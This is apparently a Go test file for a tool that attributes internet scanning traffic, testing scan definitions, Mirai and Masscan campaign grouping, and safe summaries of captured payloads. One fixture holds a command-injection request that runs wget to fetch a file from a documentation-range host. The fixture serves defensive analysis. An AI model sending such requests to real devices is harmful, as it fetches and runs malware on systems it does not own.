package attribution_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"teiten/attribution"
	"teiten/internal/casedb"
	"teiten/internal/observation"
)

// TestDefinitionsAreConfiguration: the verdict names the definition it used,
// and none is used that was turned off.
func TestDefinitionsAreConfiguration(t *testing.T) {
	t.Parallel()
	judge := func(d attribution.Definitions, list []seen) casedb.Verdict {
		all := attribution.NewProfiles(attribution.Options{Definitions: d})
		for _, s := range list {
			all.Add("north", s.observation("192.0.2.1"))
		}
		return verdicts(all)["192.0.2.1"]
	}
	ports := portsOf(6, 8000, seen{})
	if v := judge(attribution.Definitions{}, ports); v.Kind != casedb.KindUnknown {
		t.Errorf("six ports: got %s by %s", v.Kind, v.Rule)
	}
	v := judge(attribution.Definitions{PortsPerDay: 5}, ports)
	if v.Rule != attribution.RuleTSUBAME || v.Evidence.V.Definition != "5 or more ports within one day" || !slices.Contains(v.Evidence.V.Notes, attribution.NoteVertical) {
		t.Errorf("five asked for: got %+v", v)
	}
	if v := judge(attribution.Definitions{PortsPerDay: -1}, portsOf(50, 8000, seen{})); v.Kind != casedb.KindUnknown {
		t.Errorf("not used: got %s by %s", v.Kind, v.Rule)
	}
	v = judge(attribution.Definitions{Addresses: 30}, []seen{{port: 502, packets: 30, dests: 30}})
	if v.Rule != attribution.RuleDurumeric || v.Evidence.V.Definition != "30 or more addresses on one port" ||
		!slices.Contains(v.Evidence.V.Notes, attribution.NoteHorizontal) || !slices.Contains(v.Evidence.V.Notes, attribution.NoteICS) {
		t.Errorf("thirty addresses: got %+v", v)
	}
}

// TestCampaigns: many sources with one worm's mark are one campaign; those of a
// tool that everybody uses only within one network.
func TestCampaigns(t *testing.T) {
	t.Parallel()
	all := attribution.NewProfiles(attribution.Options{})
	for i := range 12 {
		all.Add("north", seen{port: 23, packets: 3, marks: marks(observation.MarkMirai, 3), after: time.Duration(i) * time.Minute}.observation(source(i<<20)))
		all.Add("north", seen{port: 443, packets: 3, marks: marks(observation.MarkZMap, 3)}.observation(fmt.Sprintf("198.51.%d.1", 100+i)))
		all.Add("north", seen{port: 22, packets: 3, marks: marks(observation.MarkMasscan, 3)}.observation(fmt.Sprintf("203.0.113.%d", i)))
		// Clients of a file server.
		client := fmt.Sprintf("192.0.2.%d", i)
		all.Add("north", seen{port: 445, packets: 3, marks: marks(observation.MarkWorm445, 3)}.observation(client))
		all.Add("north", seen{port: 445, packets: 30, class: observation.ClassACK}.observation(client))
	}
	var got []string
	for _, a := range all.Aggregates() {
		got = append(got, fmt.Sprintf("%s %s %d %v %v", a.Kind, a.Rule, a.Sources, a.Ports, a.Network.IsValid()))
	}
	want := "campaign masscan 12 [22/TCP] true, campaign mirai 12 [23/TCP] false"
	if s := strings.Join(got, ", "); s != want {
		t.Errorf("got %s, want %s", s, want)
	}
}

func TestPayloadsAreSummarisedSafely(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		proto   uint8
		port    uint16
		payload string
		want    string
	}{
		{6, 80, "GET /shell?cd+/tmp;wget+http://198.51.100.7/a HTTP/1.1\r\nHost: 198.51.100.9\r\n", "HTTP GET /shell?cd+/tmp;wget+http://(address)/a"},
		{6, 443, "\x16\x03\x01\x02\x00\x01\x00\x01", "TLS ClientHello"},
		{6, 22, "SSH-2.0-Go\x1b[31m\r\n", "SSH 2.0-Go?[31m"},
		{6, 6379, "*1\r\n$4\r\ninfo\r\n", "Redis"},
		{17, 53, "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x08c6336407\x04scan\x07example\x03com\x00\x00\x01\x00\x01", "DNS A *.example.com"},
		{17, 53, "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x3fabc", "DNS"},
		{17, 123, "\x17\x00\x03\x2a", "NTP monlist"},
		{17, 9999, "whatever", ""},
		{1, 0, "ping", ""},
	} {
		if got := attribution.Payload(test.proto, test.port, []byte(test.payload)); got != test.want {
			t.Errorf("%q: got %q, want %q", test.payload, got, test.want)
		}
	}
}

func FuzzPayload(f *testing.F) {
	f.Add(true, uint16(80), []byte("GET / HTTP/1.1"))
	f.Add(false, uint16(53), []byte("\x00\x00\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x00\x00\x01"))
	f.Fuzz(func(t *testing.T, tcp bool, port uint16, b []byte) {
		proto := uint8(17)
		if tcp {
			proto = 6
		}
		s := attribution.Payload(proto, port, b)
		if len(s) > 120 {
			t.Errorf("%d bytes", len(s))
		}
		for _, r := range s {
			if r < ' ' || r > '~' {
				t.Errorf("%q", s)
			}
		}
	})
}
